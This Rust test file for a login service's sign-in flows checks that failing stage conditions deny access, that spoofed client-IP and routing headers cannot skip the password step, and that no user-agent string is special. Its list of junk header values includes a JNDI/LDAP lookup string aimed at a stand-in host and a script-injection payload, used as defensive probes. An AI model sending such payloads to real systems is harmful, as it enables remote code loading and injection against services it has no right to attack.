//! Conditions when they run: one that fails denies the login and says so, and nothing that a request
//! brings along makes one true (A-04, CVE-2024-47070).

use reqwest::Method;
use serde_json::json;

use crate::harness::{TestApp, Walk};
use crate::{ADA, PASSWORD};

use super::{BOB, SIGN_IN, assert_nobody, me, sign_in_as};

/// `blueprints/acme.yaml` with a condition at its `password` stage.
fn password_when(condition: &str) -> String {
    let stage = "      - password: { attempts: 5 }\n";
    let changed = crate::ACME.replace(stage, &format!("{stage}        when: '{condition}'\n"));
    assert_ne!(changed, crate::ACME);
    changed
}

#[tokio::test(flavor = "multi_thread")]
async fn a_condition_that_fails_denies() {
    // Nothing is wrong with them until they meet Ada, who is in one organisation and has no user agent.
    for condition in [
        "1 / (user.organisations.len() - 1) == 0",
        "10 % request.user_agent.len() == 0",
        "9223372036854775807 + user.organisations.len() > 0",
        "client.name == \"Wiki\"",
        "domain(request.user_agent) == \"acme.example\"",
        "user.username.len() / (user.organisations.len() - 1) > 3 || true",
    ] {
        let app = TestApp::with_blueprint(&password_when(condition)).await;
        let browser = app.browser();
        let walk = Walk::begin(&browser, "sign-in").await;
        let walk = walk.answer(json!({ "login": ADA })).await;
        assert_eq!((walk.status, &walk.body["denied"]["key"]), (403, &json!("deny.text")));
        // What failed is for administrators.
        assert!(!walk.body.to_string().contains("organisations"), "{walk:?}");
        let denied = app.events_of("flow_denied").await;
        assert_eq!(denied.len(), 1, "{condition}");
        let reason = denied[0].data["reason"].as_str().unwrap();
        assert!(reason.contains(condition), "{condition}: {reason}");
        assert_eq!(denied[0].user_id, Some(app.person(ADA).await.id));
        assert_eq!((&*denied[0].outcome, &denied[0].data["flow"]), ("failure", &json!("sign-in")));
        assert_nobody(&app, &browser).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_has_no_fields() {
    let stage = "      - password: { attempts: 5 }\n";
    let changed = format!("      - message: {{ text: Hello }}\n        when: user.admin\n{stage}");
    let app = TestApp::with_blueprint(&crate::ACME.replace(stage, &changed)).await;
    assert_eq!(sign_in_as_far(&app, "nobody").await.status, 403, "an absent person is an error");
    sign_in_as_far(&app, "ada").await.asks("message");
    sign_in_as_far(&app, "bob").await.asks("password");
}

async fn sign_in_as_far(app: &TestApp, login: &str) -> Walk {
    Walk::begin(&app.browser(), "sign-in").await.answer(json!({ "login": login })).await
}

/// Values that policies choked on elsewhere, for any header that says who asks.
const JUNK: &[&[u8]] = &[
    b"",
    b"a",
    b"10.1.2.3",
    b"127.0.0.1, 10.1.2.3",
    b"10.1.2.3, a",
    b"999.999.999.999",
    b"::ffff:10.1.2.3",
    b"10.1.2.3:443",
    b"[::1]:80",
    b"unknown, _hidden",
    b"for=10.1.2.3;by=10.0.0.1",
    b"\xff\xfe",
    b"${jndi:ldap://evil.example}",
    b"<script>alert(1)</script>",
    b"a,b;q=9,*;q=-1,de;q=1e400",
    b"office",
];

const HEADERS: &[&str] = &[
    "x-forwarded-for",
    "x-real-ip",
    "x-client-ip",
    "true-client-ip",
    "cf-connecting-ip",
    "forwarded",
    "x-forwarded-host",
    "x-forwarded-proto",
    "x-original-url",
    "x-rewrite-url",
    "x-http-method-override",
    "x-remote-user",
    "remote-user",
    "x_forwarded_for",
    "accept-language",
    "referer",
    "cookie",
    "accept",
    "accept-charset",
    "via",
];

/// The password is not asked in the office: it is the most careless flow that there could be. Who
/// only says so is asked all the same.
#[tokio::test(flavor = "multi_thread")]
async fn junk_in_headers_skips_nothing() {
    let careless =
        password_when("!in_cidr(request.ip, \"10.0.0.0/8\") && request.language != \"xx\"");
    let app = TestApp::with_blueprint(&careless).await;
    for name in HEADERS {
        for value in JUNK {
            let browser = app.browser();
            let shown = format!("{name}: {}", String::from_utf8_lossy(value));
            let own = [(*name, *value), ("content-type", b"application/json".as_slice())];
            let begun = browser.raw(Method::GET, "/api/v1/flows/sign-in", &own[..1], "").await;
            assert_eq!(begun.status, 200, "{shown}: {begun:?}");
            let execution = begun.json()["execution"].as_str().unwrap().to_owned();
            let address = format!("/api/v1/flows/sign-in?e={execution}");
            let body = json!({ "step": 0, "answer": { "login": ADA } }).to_string();
            let page = browser.raw(Method::POST, &address, &own, body).await;
            assert_eq!(page.status, 200, "{shown}: {page:?}");
            assert_eq!(page.json()["challenge"]["component"], "password", "{shown}");
        }
    }
    me(&app.browser()).await.expect(401);
}

/// Behind a trusted proxy its word counts, and only as far as it can be read.
#[tokio::test(flavor = "multi_thread")]
async fn a_trusted_proxy_is_believed_as_far_as_it_can_be_read() {
    let careless = password_when("!in_cidr(request.ip, \"10.0.0.0/8\")");
    let trusting = [("trusted-proxies", "127.0.0.0/8")];
    let app = TestApp::with_settings(&careless, &trusting).await;
    let from = |forwarded: &'static str| app.browser().with("x-forwarded-for", forwarded);
    for outside in ["a", "10.1.2.3, a", "192.0.2.1", "10.1.2.3, 192.0.2.1", "", ",", "10.1.2.3,"] {
        let walk = Walk::begin(&from(outside), "sign-in").await;
        walk.answer(json!({ "login": ADA })).await.asks("password");
    }
    // In the office the password's stage is skipped: then the gate asks for it, and nobody comes in.
    let office = from("192.0.2.1, 10.1.2.3");
    let walk = Walk::begin(&office, "sign-in").await.answer(json!({ "login": ADA })).await;
    let walk = walk.asks("password");
    assert_eq!(walk.body["challenge"]["stage"], "gate", "{walk:?}");
    assert_nobody(&app, &office).await;
    let walk = walk.answer(json!({ "password": "wrong" })).await.asks("password");
    assert_eq!(walk.session(), None);
    let checked = app.events_of("password_checked").await;
    assert_eq!(checked[0].ip.as_deref(), Some("10.1.2.3"), "{checked:#?}");
}

/// A-19, CVE-2026-12225: a user agent is a text like any other.
#[tokio::test(flavor = "multi_thread")]
async fn no_user_agent_is_magic() {
    let app = TestApp::start().await;
    for agent in
        ["", "flowgate", "kube-probe/1.30", "curl/8", "Healthcheck", "GoogleHC/1.0", "x\ty"]
    {
        let browser = app.browser().with("user-agent", agent);
        let page = browser.visit(SIGN_IN).await.expect(200);
        let page = page.form_with("login").fill("login", ADA).submit().await.expect(200);
        assert!(page.has(r#"[name="password"]"#), "{agent}: {page:?}");
        me(&browser).await.expect(401);
    }
    let long = app.browser().with("user-agent", &"a".repeat(10_000));
    assert!(sign_in_as(&long, BOB.0, BOB.1).await.session().is_some());
    assert!(sign_in_as(&long, ADA, PASSWORD).await.session().is_some());
}
